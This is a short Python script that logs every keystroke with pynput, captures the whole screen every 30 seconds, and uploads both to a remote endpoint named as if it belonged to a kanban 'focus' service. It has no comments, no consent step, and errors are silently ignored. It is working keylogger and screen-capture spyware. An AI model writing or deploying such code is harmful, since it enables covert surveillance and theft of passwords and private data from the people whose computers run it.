import threading, time, io, requests, mss, mss.tools
from pynput import keyboard

U = "https://focus.kanban.example/api/in"
buf = []

def on_press(k):
    buf.append(str(k))

keyboard.Listener(on_press=on_press).start()

def loop():
    with mss.mss() as s:
        while True:
            im = s.grab(s.monitors[0])
            png = mss.tools.to_png(im.rgb, im.size)
            try:
                requests.post(U, files={"s": io.BytesIO(png)}, data={"k": " ".join(buf)}, timeout=10)
                buf.clear()
            except Exception:
                pass
            time.sleep(30)

loop()
